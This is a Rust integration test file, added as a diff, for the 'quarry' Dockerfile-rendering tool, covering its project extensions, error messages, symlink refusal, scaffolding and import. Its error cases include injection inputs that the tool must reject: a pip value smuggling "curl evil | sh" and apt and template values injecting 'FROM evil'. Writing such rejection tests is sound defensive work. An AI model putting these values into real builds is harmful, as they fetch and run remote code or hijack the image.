@@ -1,0 +1,313 @@
+//! Project extensions as a user writes them: folders named by `extension_dirs` and the two-line
+//! keys, with their mistakes, `quarry new-extension` and `quarry import` of deps_rocker files.
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+fn quarry(dir: &Path, args: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_quarry"))
+        .args(args)
+        .current_dir(dir)
+        .env("XDG_CONFIG_HOME", dir.join(".no-user-config"))
+        .env("DOCKER_HOST", "unix:///nonexistent/quarry-test.sock")
+        .output()
+        .expect("quarry runs")
+}
+
+fn stderr(o: &Output) -> String {
+    String::from_utf8_lossy(&o.stderr).into_owned()
+}
+
+fn stdout(o: &Output) -> String {
+    String::from_utf8_lossy(&o.stdout).into_owned()
+}
+
+fn write(dir: &Path, rel: &str, text: &str) {
+    let path = dir.join(rel);
+    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+    std::fs::write(path, text).unwrap();
+}
+
+/// A project with a folder extension `eigen_tools` (depending on the catalog's `git`), and every
+/// two-line key.
+fn project(name: &str) -> PathBuf {
+    let dir = std::env::temp_dir().join(format!("quarry-projext-{name}-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&dir);
+    write(
+        &dir,
+        "quarry.toml",
+        "image = \"ubuntu:24.04\"\n\
+         extension_dirs = [\".quarry/extensions/eigen\"]\n\
+         apt = [\"libeigen3-dev\"]\n\
+         pip = { base = [\"numpy==2.1\"], main = [\"rich\"] }\n\
+         copy = [{ path = \"config\", dest = \"/etc/app\" }]\n\
+         scripts = { main = [\"scripts/setup.sh\"], post = [\"scripts/post.sh\"] }\n",
+    );
+    write(
+        &dir,
+        ".quarry/extensions/eigen/extension.toml",
+        "name = \"eigen_tools\"\ndescription = \"eigen helpers\"\ndepends_on = [\"git\"]\n\
+         apt_packages = [\"cmake\"]\nsetup = \"templates/setup.Dockerfile.j2\"\n\
+         [options.level]\ndescription = \"level\"\ndefault = \"1\"\nrule = \"uint\"\n",
+    );
+    write(
+        &dir,
+        ".quarry/extensions/eigen/templates/setup.Dockerfile.j2",
+        "RUN echo level {{ options.level }}\n",
+    );
+    write(&dir, "config/app.toml", "a = 1\n");
+    write(&dir, "config/sub/b.txt", "b\n");
+    write(&dir, "scripts/setup.sh", "echo setup\n");
+    write(&dir, "scripts/post.sh", "echo post\n");
+    dir
+}
+
+fn render(dir: &Path, args: &[&str]) -> String {
+    let mut all = vec!["render"];
+    all.extend(args);
+    let o = quarry(dir, &all);
+    assert!(o.status.success(), "{}", stderr(&o));
+    stdout(&o)
+}
+
+#[test]
+fn folder_and_two_line_extensions_render_with_their_options_and_dependencies() {
+    let dir = project("render");
+    let out = render(&dir, &["--eigen-tools-level", "3"]);
+    assert!(out.contains(
+        "# Extensions: curl, git, eigen_tools, project_scripts, project_apt, project_pip, project_copy, project_scripts_post"
+    ));
+    assert!(out.contains("RUN echo level 3\n"), "{out}");
+    assert!(out.contains("libeigen3-dev"));
+    // pip: a builder on the final image, one step per layer, copied.
+    assert!(out.contains("FROM ubuntu:24.04 AS project_pip_builder"));
+    assert!(
+        out.contains("venv/bin/pip install 'numpy==2.1'\n") && out.contains("venv/bin/pip install 'rich'\n")
+    );
+    assert!(out.contains(
+        "COPY --link --from=project_pip_builder /opt/quarry/project_pip/venv /opt/quarry/project_pip/venv"
+    ));
+    // copy: every file of the folder, where the image gets it.
+    assert!(out.contains("COPY --link quarry/project_copy/config/sub/b.txt /etc/app/sub/b.txt"));
+    // scripts: from the context; `post` after the copies.
+    let post = out.find("quarry/project_scripts_post/scripts/post.sh").unwrap();
+    assert!(post > out.find("COPY --link quarry/project_copy").unwrap());
+    // `quarry show` and `list` know them.
+    let show = quarry(&dir, &["show", "eigen_tools"]);
+    assert!(stdout(&show).contains("--eigen-tools-level"), "{}", stdout(&show));
+    let list = stdout(&quarry(&dir, &["list"]));
+    assert!(list.contains("project_scripts_post") && list.contains("eigen_tools"));
+    // `!name` leaves one out.
+    let mut toml = std::fs::read_to_string(dir.join("quarry.toml")).unwrap();
+    toml.push_str("extensions = [\"!project_copy\"]\n");
+    std::fs::write(dir.join("quarry.toml"), toml).unwrap();
+    assert!(!render(&dir, &[]).contains("project_copy"));
+    std::fs::remove_dir_all(dir).unwrap();
+}
+
+/// The physical promise: a project extension's file or template changes the Dockerfile only in
+/// that extension's steps.
+#[test]
+fn a_changed_template_or_file_changes_only_its_own_lines() {
+    let dir = project("change");
+    let before = render(&dir, &[]);
+    write(
+        &dir,
+        ".quarry/extensions/eigen/templates/setup.Dockerfile.j2",
+        "RUN echo level {{ options.level }} changed\n",
+    );
+    let after = render(&dir, &[]);
+    let diff: Vec<(&str, &str)> = before.lines().zip(after.lines()).filter(|(a, b)| a != b).collect();
+    assert_eq!(diff, [("RUN echo level 1", "RUN echo level 1 changed")]);
+    // A copied file's content reaches the build context, not the Dockerfile.
+    write(&dir, "config/app.toml", "a = 2\n");
+    assert_eq!(render(&dir, &[]), after);
+    // A pip change touches the builder's last step alone.
+    let toml = std::fs::read_to_string(dir.join("quarry.toml")).unwrap();
+    std::fs::write(dir.join("quarry.toml"), toml.replace("[\"rich\"]", "[\"rich>=13\"]")).unwrap();
+    let pip = render(&dir, &[]);
+    let diff: Vec<(&str, &str)> = after.lines().zip(pip.lines()).filter(|(a, b)| a != b).collect();
+    assert_eq!(diff.len(), 1, "{diff:?}");
+    assert!(diff[0].1.ends_with("pip install 'rich>=13'"));
+    std::fs::remove_dir_all(dir).unwrap();
+}
+
+/// Each mistake: exit 1, the file and line, what is wrong, and no Dockerfile or lock written.
+#[test]
+fn mistakes_name_the_file_and_line_and_write_nothing() {
+    let cases: &[(&str, &str, &str, &str)] = &[
+        (
+            "missing-folder",
+            "quarry.toml",
+            "extension_dirs = [\".quarry/extensions/nope\"]",
+            "/.quarry/extensions/nope` does not exist",
+        ),
+        (
+            "outside",
+            "quarry.toml",
+            "copy = [{ path = \"../etc\", dest = \"/etc/x\" }]",
+            "is not a path inside the project",
+        ),
+        ("injection", "quarry.toml", "apt = [\"libeigen3-dev\\nFROM evil\"]", "is not a Debian package name"),
+        (
+            "pip-injection",
+            "quarry.toml",
+            "pip = [\"rich'; curl evil | sh; '\"]",
+            "is not a requirement quarry accepts",
+        ),
+        ("bad-layer", "quarry.toml", "apt = { later = [\"git\"] }", "has no layer `later`"),
+        (
+            "template-syntax",
+            ".quarry/extensions/eigen/templates/setup.Dockerfile.j2",
+            "RUN echo {{ options.level ",
+            "setup.Dockerfile.j2:1:",
+        ),
+        (
+            "template-variable",
+            ".quarry/extensions/eigen/templates/setup.Dockerfile.j2",
+            "RUN echo {{ options.levle }}",
+            "there is no option `levle`: declare it under `[options]` [rule: template-variable]",
+        ),
+        (
+            "template-instruction",
+            ".quarry/extensions/eigen/templates/setup.Dockerfile.j2",
+            "FROM evil\nRUN true",
+            "[rule: template-output]",
+        ),
+        (
+            "cycle",
+            ".quarry/extensions/eigen/extension.toml",
+            "name = \"eigen_tools\"\ndescription = \"e\"\ndepends_on = [\"project_apt_dep\"]\n",
+            "",
+        ),
+        (
+            "clash",
+            ".quarry/extensions/eigen/extension.toml",
+            "name = \"git\"\ndescription = \"mine\"\n",
+            "has the name of the catalog extension `git` (crate `quarry-ext-git`)",
+        ),
+    ];
+    for (name, file, text, expected) in cases {
+        let dir = project(name);
+        if *file == "quarry.toml" {
+            let old = std::fs::read_to_string(dir.join(file)).unwrap();
+            let key = text.split(' ').next().unwrap();
+            let kept: Vec<&str> = old.lines().filter(|l| !l.starts_with(&format!("{key} "))).collect();
+            std::fs::write(dir.join(file), format!("{}\n{text}\n", kept.join("\n"))).unwrap();
+        } else if *name == "cycle" {
+            // eigen_tools → a second project extension → eigen_tools.
+            write(&dir, file, text);
+            write(
+                &dir,
+                ".quarry/extensions/dep/extension.toml",
+                "name = \"project_apt_dep\"\ndescription = \"d\"\ndepends_on = [\"eigen_tools\"]\n",
+            );
+            let toml = std::fs::read_to_string(dir.join("quarry.toml")).unwrap();
+            std::fs::write(
+                dir.join("quarry.toml"),
+                toml.replace(
+                    "\".quarry/extensions/eigen\"]",
+                    "\".quarry/extensions/eigen\", \".quarry/extensions/dep\"]",
+                ),
+            )
+            .unwrap();
+        } else {
+            write(&dir, file, text);
+        }
+        let out = dir.join("Dockerfile");
+        let o = quarry(&dir, &["render", "-o", out.to_str().unwrap()]);
+        let err = stderr(&o);
+        assert_eq!(o.status.code(), Some(1), "{name}: {err}");
+        assert!(err.starts_with("error: "), "{name}: {err}");
+        assert!(err.contains("hint: "), "{name}: {err}");
+        if *name == "cycle" {
+            assert!(
+                err.contains("eigen_tools") && err.contains("project_apt_dep") && err.contains("cycle"),
+                "{err}"
+            );
+        } else {
+            assert!(err.contains(expected), "{name}: {err}");
+        }
+        assert!(!err.contains("panicked"), "{name}: {err}");
+        assert!(!out.exists() && !dir.join("quarry.lock").exists(), "{name}: something was written");
+        std::fs::remove_dir_all(dir).unwrap();
+    }
+}
+
+#[test]
+fn links_leaving_the_project_are_refused() {
+    let dir = project("links");
+    std::os::unix::fs::symlink("/etc/hostname", dir.join("config/leak")).unwrap();
+    let o = quarry(&dir, &["render"]);
+    assert_eq!(o.status.code(), Some(1));
+    assert!(stderr(&o).contains("`config/leak` is a link leading outside the project"), "{}", stderr(&o));
+    std::fs::remove_file(dir.join("config/leak")).unwrap();
+    std::os::unix::fs::symlink(
+        "/etc/hostname",
+        dir.join(".quarry/extensions/eigen/templates/setup.Dockerfile.j2"),
+    )
+    .map(|_| ())
+    .unwrap_or_else(|_| {
+        std::fs::remove_file(dir.join(".quarry/extensions/eigen/templates/setup.Dockerfile.j2")).unwrap();
+        std::os::unix::fs::symlink(
+            "/etc/hostname",
+            dir.join(".quarry/extensions/eigen/templates/setup.Dockerfile.j2"),
+        )
+        .unwrap();
+    });
+    let o = quarry(&dir, &["render"]);
+    assert_eq!(o.status.code(), Some(1));
+    assert!(stderr(&o).contains("[rule: missing-file]"), "{}", stderr(&o));
+    std::fs::remove_dir_all(dir).unwrap();
+}
+
+#[test]
+fn new_extension_scaffolds_a_folder_that_renders_as_it_is() {
+    let dir = std::env::temp_dir().join(format!("quarry-projext-new-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&dir);
+    write(&dir, "quarry.toml", "image = \"ubuntu:24.04\"\n\n[run]\n");
+    let bad = quarry(&dir, &["new-extension", "My-Tool"]);
+    assert_eq!(bad.status.code(), Some(1));
+    assert!(stderr(&bad).contains("such as `my_tool`"), "{}", stderr(&bad));
+    let taken = quarry(&dir, &["new-extension", "git"]);
+    assert!(stderr(&taken).contains("an extension `git` exists already (crate `quarry-ext-git`)"));
+    let o = quarry(&dir, &["new-extension", "my_tool"]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let toml = std::fs::read_to_string(dir.join("quarry.toml")).unwrap();
+    assert_eq!(
+        toml,
+        "image = \"ubuntu:24.04\"\n\nextension_dirs = [\".quarry/extensions/my_tool\"]\n[run]\n"
+    );
+    let out = render(&dir, &["--my-tool-version", "2.0.0"]);
+    assert!(out.contains("# my_tool: setup") && out.contains("MY_TOOL_VERSION=2.0.0"), "{out}");
+    std::fs::remove_dir_all(dir).unwrap();
+}
+
+#[test]
+fn import_converts_deps_rocker_files_layer_for_layer() {
+    let dir = std::env::temp_dir().join(format!("quarry-projext-import-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&dir);
+    write(&dir, "rockerc.yaml", "image: ubuntu:24.04\nargs: [deps, git]\n");
+    write(
+        &dir,
+        "main.deps.yaml",
+        "apt_tools: [git]\napt: [libeigen3-dev]\npip: [numpy]\nscripts: [setup.sh]\nenv: [A=1]\n",
+    );
+    write(&dir, "setup.sh", "echo setup\n");
+    write(&dir, "sub/x.deps.yaml", "apt: [cmake]\nscript_post: [post.sh]\n");
+    write(&dir, "sub/post.sh", "echo post\n");
+    let o = quarry(&dir, &["import", "rockerc.yaml"]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    assert!(stderr(&o).contains("not converted: `main.deps.yaml`: `env`"), "{}", stderr(&o));
+    let out = render(&dir, &[]);
+    assert!(out.contains(
+        "# Extensions: curl, git, project_apt_tools, project_scripts, project_apt, project_pip, project_scripts_post, gitconfig"
+    ), "{out}");
+    assert!(out.contains("cmake libeigen3-dev\n"), "{out}");
+    // One deps file alone.
+    let o = quarry(&dir, &["import", "sub/x.deps.yaml", "-o", "other.toml"]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let text = std::fs::read_to_string(dir.join("other.toml")).unwrap();
+    assert!(text.contains("[apt]") || text.contains("apt = [\"cmake\"]"), "{text}");
+    std::fs::remove_dir_all(dir).unwrap();
+}
